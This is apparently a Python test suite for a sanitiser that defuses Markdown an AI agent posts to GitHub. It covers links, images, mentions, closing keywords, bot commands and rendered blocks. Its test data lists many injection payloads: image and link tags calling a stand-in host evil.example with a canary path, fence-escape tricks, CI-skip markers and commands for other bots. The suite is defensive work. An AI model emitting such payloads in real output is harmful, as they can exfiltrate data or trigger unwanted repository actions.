"""Markdown of an agent: no mention, image, link to an unknown host, tag or closing keyword stays active."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.rules_block import table

from labrats.github.reports.markdown import code_block, neutralised, neutralised_message, one_line

KNOWN = frozenset({"github.com", "labrats.example.com"})

ATTACKS = [
    "![x](https://evil.example/?q=canary)",
    "![x](//evil.example/canary)",
    "![x](https:\\/\\/evil.example/canary)",
    "![x](https&#58;&#47;&#47;evil.example/canary)",
    "![x](https&colon;&sol;&sol;evil.example/canary)",
    "![x][1]\n\n[1]: https://evil.example/canary",
    "![x][1]\n\n[1]: <https://evil.example/canary> 'title'",
    "![x](https://github.com@evil.example/canary)",
    "![x](https://github.com:pw@evil.example/canary)",
    "![x](HTTPS://EVIL.example/canary)",
    "![x](https://evil.example\\@github.com/canary)",
    '<img src="https://evil.example/canary">',
    "<img src=//evil.example/canary>",
    "<IMG SRC=https:evil.example/canary>",
    "<picture><source srcset='https://evil.example/canary'></picture>",
    "\\<img src=https://evil.example/canary>",
    "<!-- hidden --><details open><summary>x</summary></details>",
    "<https://evil.example/canary>",
    "[text](https://evil.example/canary)",
    "[text](https://evil.example/canary 'github.com')",
    "[a](<https://evil.example/canary>)",
    "`code` <img src=https://evil.example/canary> `code`",
    "```\n<img src=https://evil.example/canary>\n``` not closed\n<img src=https://evil.example/canary>",
    "``` info`string\n<img src=https://evil.example/canary>\n```",
    "- item\n  ```\n```\n<img src=https://evil.example/canary>\n```\n```",
    "> ```\n<img src=https://evil.example/canary>\n> ```",
    "1. ```\n```\n<img src=https://evil.example/canary>\n```",
    "~~~\n```\n~~~\n<img src=https://evil.example/canary>\n```",
    "````\n```\n````\n<img src=https://evil.example/canary>\n```\n",
    "a\r```\r\n<img src=https://evil.example/canary>\r\n",
    "```\n\u2028```\n<img src=https://evil.example/canary>",
    "\t```\n<img src=https://evil.example/canary>\n```",
    "<x\n```\n<img src=https://evil.example/canary>\n```",
]


class _Rendered(HTMLParser):
    """The elements of rendered Markdown."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def rendered(text: str) -> _Rendered:
    return _Rendered(MarkdownIt("commonmark", {"html": True}).render(neutralised(text, KNOWN, 60_000)))


def check_harmless(text: str) -> None:
    allowed = {"p", "a", "img", "ul", "ol", "li", "code", "pre", "em", "strong", "blockquote", "hr", "br"}
    for tag, attributes in rendered(text).elements:
        assert tag in allowed | {f"h{level}" for level in range(1, 7)}, f"the tag {tag} is active in {text!r}"
        for address in (attributes.get("href"), attributes.get("src")):
            assert not re.match(
                r"(?i)(?:[a-z]+:)?//(?!(?:github\.com|labrats\.example\.com)(?:[/:?#]|$))", address or ""
            )
            assert not re.match(r"(?i)https?:(?!//)", address or ""), f"{address} is active in {text!r}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_has_no_active_part_when_rendered(attack: str) -> None:
    check_harmless(attack)


IMAGE = "<img src=https://evil.example/c>"
FENCES = ("```", "~~~", "`", "> ", "- ", "1. ", "\n", "\n\n", "  ", "    ", "\t", "\r")
SYNTAX = st.sampled_from(
    (
        IMAGE,
        *FENCES,
        "<",
        ">",
        "![x](",
        "https://evil.example/c",
        ")",
        "[1]: ",
        "[x][1]",
        "\\",
        "&#47;",
        "//",
        "a",
        "@",
        "|",
    )
)


@given(st.lists(SYNTAX, max_size=14))
def test_no_combination_of_syntax_is_active_when_rendered(parts: list[str]) -> None:
    check_harmless("".join(parts))


@pytest.mark.parametrize(
    "mention", ["@octocat", "thanks @octo/team!", "(@octocat)", "`@octocat`", "a\n@octocat", "&#64;octocat"]
)
def test_a_mention_notifies_nobody(mention: str) -> None:
    text = neutralised(mention, KNOWN, 1000)
    assert not re.search(r"@[0-9A-Za-z]", text)
    assert not re.search(r"@[0-9A-Za-z]", rendered(mention).text)


CLOSING = r"(?i)(close[sd]?|duplicate of|fix(e[sd])?|resolve[sd]?):?\s+([\w.-]+/[\w.-]+)?(#\d|GH-\d|https?://)"


@pytest.mark.parametrize(
    "closing",
    [
        "Fixes #12",
        "closes: octo/other#3",
        "resolved https://github.com/octo/demo/issues/1",
        "FIX GH-4",
        r"Fixes \#12",
        r"Fixes \\#12",
        r"Resolves octo/other\\#7",
        "Fixes *#12*",
        "Fixes [#12](https://github.com/octo/demo)",
        "Duplicate of #12",
    ],
)
def test_a_closing_keyword_closes_nothing(closing: str) -> None:
    text = neutralised(closing, KNOWN, 1000)
    assert not re.search(CLOSING, text)
    assert not re.search(CLOSING, rendered(closing).text)


@pytest.mark.parametrize(
    "command",
    ["/approve", "> /lgtm cancel", "text\n  /azp run", "- /Retest", "bors r+", "```\n/gcbrun\n```", "bors\ttry"],
)
def test_a_command_for_another_bot_starts_no_line(command: str) -> None:
    """A bot looks in code, too, and obeys the owner of a personal token."""
    assert not re.search(r"(?im)^[ \t>*+-]*(/[a-z]|bors\s)", neutralised(command, KNOWN, 1000))


@pytest.mark.parametrize("text", ["/usr/bin/env x", "see /approve", "/help.", "borscht", "*/", "/"])
def test_a_path_is_no_command(text: str) -> None:
    assert neutralised(text, KNOWN, 1000) == text


LINE_PARTS = st.sampled_from(
    (
        *("```", "````", "~~~", "~~~~~", "``` sh", "```a`b", "~~~ a`b", "`" * 150, "~" * 150),
        *("- ", "* ", "-\n", "1. ", "2) ", "10. ", "> ", "[^1]: ", "[a]: ", "- - -", "# ", "---"),
        *(" ", "  ", "   ", "    ", "\t", "\n", "\n\n", "\r", "x", "\\", "|a|\n|-|\n", "&gt; "),
        *("<!--", "-->", "<!", "<?", "<![CDATA[", "<script>", "<pre>", "<div>", "</div>\n"),
    )
)
TEXTS = st.lists(LINE_PARTS, max_size=20).map("".join)
CODE = "````diff\n ```\n[evil](https://evil.example)\n````"
GITHUB_LIKE = MarkdownIt("gfm-like", {"html": True, "linkify": False})
# For GitHub, only a line that would begin a paragraph is the head of a table, and so none that begins a block of code.
GITHUB_LIKE.disable("table")
GITHUB_LIKE.block.ruler.before("paragraph", "table_of_github", table, {"alt": ["paragraph", "reference"]})


def check_separate(text: str) -> None:
    """Check that a paragraph and a block of code after `text` are no part of its last block."""
    tokens = [token for token in GITHUB_LIKE.parse(f"{text}\n\nFixes #1\n\n{CODE}") if token.level == 0]
    assert [token.type for token in tokens[-3:]] == ["paragraph_open", "paragraph_close", "fence"]
    assert (tokens[-1].info, tokens[-1].content) == ("diff", " ```\n[evil](https://evil.example)\n")


@settings(max_examples=300)
@example("```\\|a|\n|-|\n", 16)
@given(TEXTS, st.integers(0, 1000))
def test_text_leaves_no_block_open_before_what_follows(text: str, most_bytes: int) -> None:
    """Otherwise what follows is within the block, and a fence in it makes the rest of it active."""
    check_separate(neutralised(text, KNOWN, most_bytes))


@given(st.lists(st.sampled_from(("```\n", "~~~~\n", "  ```\n", "- ```\n", "- x\n", "y\n", "\n"))).map("".join))
def test_text_that_is_cut_leaves_no_block_open_before_what_follows(text: str) -> None:
    cut = neutralised(f"{text}{'x' * 1001}", KNOWN, 1000)
    assert "[cut here" in cut
    check_separate(cut)


@pytest.mark.parametrize("text", ["- a\n[^1]: x\n  ```", "1. ```\n   ```\n  ~~~~"])
def test_lines_after_an_indented_fence_close_a_block_if_one_is_open(text: str) -> None:
    """GitHub sees the first fence after the list, because it has footnotes. Most parsers see it within the list."""
    lines = neutralised(text, KNOWN, 1000).removeprefix(text)
    fence = re.findall("`{3,}|~{3,}", text)[-1]
    for end in (lines, f"{fence}{lines}"):
        check_separate(end)
        assert {token.type for token in GITHUB_LIKE.parse(end)} <= {"fence", "html_block"}, "a line is shown as text"


@pytest.mark.parametrize("text", ["`" * 500 + "\nx", "~" * 500 + "\nx", "- ```\n" + "`" * 500])
def test_fence_that_leaves_no_room_for_another_one_leaves_no_block_open(text: str) -> None:
    for most_bytes in range(800, 1200, 50):
        check_separate(neutralised(text, KNOWN, most_bytes))


@given(TEXTS | st.text("`~ -\n@a/é\u200b😀"), st.integers(0, 1000))
def test_text_has_at_most_the_bytes_of_the_limit(text: str, most_bytes: int) -> None:
    assert len(neutralised(text, KNOWN, most_bytes).encode()) <= most_bytes


def test_text_whose_first_part_fits_exactly_keeps_to_the_limit() -> None:
    text = f"{'@a' * 300}\n```\n```\n{'y' * 2000}"
    for most_bytes in range(890, 930):
        assert len(neutralised(text, KNOWN, most_bytes)) <= most_bytes


def code_in(text: str) -> list[tuple[str, str]]:
    """Return the language and content of each block of code, without the spaces that break syntax."""
    fences = (token for token in GITHUB_LIKE.parse(text) if token.type == "fence")
    return [(token.info, token.content.replace("\u200b", "")) for token in fences]


PROSE = st.sampled_from(("Done.", "## Steps", "> quoted", "- item", "1. Run:", "a\nb"))
CODE_BLOCKS = st.sampled_from(
    (
        "```python\n# comment\n@decorated\n    def f(*args): ...\n```",
        "~~~~\n```\n~~~~",
        "1. Run:\n\n   ```sh\n   make *\n   ```",
        "- Run:\n  ~~~\n  # all\n  make\n  ~~~\n\n  and:\n\n  ```\n  x\n  ```",
        "> ```\n> # quoted\n> ```",
    )
)


@given(st.lists(PROSE | CODE_BLOCKS, max_size=6).map("\n\n".join))
def test_closed_blocks_of_code_stay_code(text: str) -> None:
    assert code_in(neutralised(text, KNOWN, 10_000)) == code_in(text)


def test_open_block_of_code_is_closed() -> None:
    text = "See:\n````python\n@dataclass\n```"
    assert neutralised(text, KNOWN, 1000) == f"{text}\n````"


def test_block_of_code_that_is_cut_stays_code_and_a_note_follows() -> None:
    text = neutralised("See:\n```python\n" + "# a comment\n" * 200 + "```\nDone.", KNOWN, 1000)
    [(info, content)] = code_in(text)
    assert info == "python"
    assert content.startswith("# a comment\n# a comment\n")
    assert text.endswith("\n```\n\n[cut here: of 2424 bytes the rest does not fit]\n")


def test_block_of_code_that_fits_only_without_its_inserted_spaces_is_cut_with_a_note() -> None:
    text = neutralised("@a " * 200 + "\n```\n" + "code\n" * 200 + "```\nDone.", KNOWN, 2200)
    assert "cut here" in text
    assert code_in(text)


def test_text_that_is_last_ends_as_it_is() -> None:
    text = "- Run:\n  ```\n  make\n  ```"
    assert neutralised(text, KNOWN, 1000, is_last=True) == text
    assert neutralised(text, KNOWN, 1000).startswith(f"{text}\n\n<!--")


def test_links_to_known_hosts_stay_as_they_are() -> None:
    text = "See [the issue](https://github.com/octo/demo/issues/1) and <https://labrats.example.com/jobs/ir-1>."
    assert neutralised(text, KNOWN, 1000) == text


def test_a_closed_block_of_code_stays_as_it_is() -> None:
    text = "Try:\n```python\n@dataclass\nclass A: ...  # <https://evil.example>\n```\nDone."
    assert neutralised(text, KNOWN, 1000) == text


@pytest.mark.parametrize("language", ["mermaid", "Mermaid", "GEOJSON", "topojson", "stl", "math"])
@pytest.mark.parametrize(
    "opening",
    [
        "```{}",
        "``` {}",
        "````\t{} title=x",
        "~~~{}",
        "~~~~ {} `x`",
        "```{}{{init}}",
        "- ```{}",
        "> ~~~ {}",
        "1. ```\x0c{} x",
        "[^1]: ```{}",
    ],
)
def test_a_block_that_github_would_render_is_plain_code(opening: str, language: str) -> None:
    first = opening.format(language)
    fence = "".join(each for each in first if each in "`~").partition("`" if "~" in first else "~")[0]
    for closed in (f"\n{fence}", ""):
        text = f'{first}\nclick A href "https://evil.example"{closed}'
        infos = [token.info for token in MarkdownIt().parse(neutralised(text, KNOWN, 1000)) if token.type == "fence"]
        assert not any(re.match(rf"\s*{language}\b", info, re.IGNORECASE) for info in infos), infos


@pytest.mark.parametrize("info", ["m&#101;rmaid", "&#109;ath x", "\u200bmermaid", "mer\u200bmaid"])
def test_a_disguised_language_is_not_rendered(info: str) -> None:
    html = MarkdownIt().render(neutralised(f"```{info}\ncode\n```", KNOWN, 1000))
    assert html == "<pre><code>code\n</code></pre>\n"


def test_the_content_of_a_rendered_block_stays_as_it_is() -> None:
    text = "```mermaid\nA --> B[@octo]\n```\n````markdown\n```mermaid\n```\n````"
    assert neutralised(text, KNOWN, 1000) == text.replace("```mermaid", "```", 1)


def test_a_formula_links_nothing() -> None:
    for command in (r"\href{#1tps:/#2evil.example}{x}", r"\csname href\endcsname{x}", r"\href1"):
        text = neutralised(rf"$\def\f#1#2{{{command}}}\f{{ht}}{{/}}$", KNOWN, 1000)
        assert not re.search(r"\\(?:href|csname)", text)
    assert neutralised(r"$\frac{1}{2} \hrefs$", KNOWN, 1000) == r"$\frac{1}{2} \hrefs$"


def test_plain_text_stays_as_it_is() -> None:
    text = "## Result\n\n- 3 tests pass, a < b, x & y, `src/main.py:3`\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert neutralised(text, KNOWN, 1000) == text


def test_hidden_comments_and_characters_are_removed() -> None:
    text = neutralised("a\u202eb <!-- labrats:report {} --> c", KNOWN, 1000)
    assert "<!--" not in text
    assert "\u202e" not in text


def test_a_long_text_is_cut_with_a_note() -> None:
    text = neutralised("x" * 5000, KNOWN, 1000)
    assert len(text.encode()) <= 1000
    assert "cut here" in text


@pytest.mark.parametrize(
    "text",
    [
        "```a\n" * 50_000,
        "~~~a\n" * 50_000,
        "\\" * 300_000,
    ],
    ids=["unclosed", "unclosed tildes", "backslashes"],
)
@pytest.mark.timeout(20)
def test_no_text_takes_much_longer_than_another_of_its_length(text: str) -> None:
    assert len(text) - 1000 < len(neutralised(text, KNOWN, len(text))) <= len(text)


def test_one_line_has_no_line_break() -> None:
    assert one_line("a\n# b\r\nc" + "d" * 300, KNOWN, 20) == "a # b cdddddddddddd…"


def test_one_line_is_no_longer_with_active_parts() -> None:
    assert len(one_line("@a " * 300, KNOWN, 200)) <= 200


def test_one_line_has_no_code_that_stays_as_it_is() -> None:
    """It may follow other text in its line, where a fence starts no block."""
    assert one_line("```\n@octocat", KNOWN, 100) == "``` @\u200boctocat"


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        ("Fixes #12", "Fixes |#|12"),
        ("Add it\n\nresolves: octo/other#7", "Add it\n\nresolves: |octo/other#|7"),
        ("See octo/other#7", "See octo/other#|7"),
        ("Ask @octo, (@octo/team)", "Ask @|octo, (@|octo/team)"),
        ("See https://evil.example/a", "See https|:/|/evil.example/a"),
        ("Ask @\x1bocto", "Ask @|octo"),
        ("Add it [skip ci]", "Add it [skip| ci]"),
        ("[CI Skip] [no ci] [actions skip]", "[CI| Skip] [no| ci] [actions| skip]"),
        ("Add it\n\nskip-checks: true", "Add it\n\nskip-checks|: true"),
    ],
)
def test_a_commit_message_closes_mentions_and_links_nothing(message: str, expected: str) -> None:
    neutral = neutralised_message(message, KNOWN)
    assert neutral.replace("\u200b", "|") == expected
    assert neutralised_message(neutral, KNOWN) == neutral


def test_an_ordinary_commit_message_stays_as_it_is() -> None:
    trailer = "Co-Authored-By: Octo <octo.cat@example.com>"
    text = f"Fix `a<b>` & more (#7) [ci] [skip tests]\n\nSee https://github.com/octo/demo\n{trailer}\n"
    assert neutralised_message(text, KNOWN) == text


def test_a_block_of_code_cannot_be_closed_by_its_text() -> None:
    text = "```\n<img src=https://evil.example/canary>\n````"
    html = MarkdownIt("commonmark", {"html": True}).render(code_block(text))
    assert "<img" not in html


@pytest.mark.parametrize("text", ["-fix_", "fix a", "fix [", "fix a/", "//a", "a.", "www.", "[skip ", "\\", "```"])
def test_long_text_takes_linear_time(text: str) -> None:
    """With quadratic time, this would take hours, in which no other thread runs."""
    assert neutralised_message(text * 200_000, KNOWN)
    assert neutralised(text * 200_000, KNOWN, most_bytes=1_000_000)
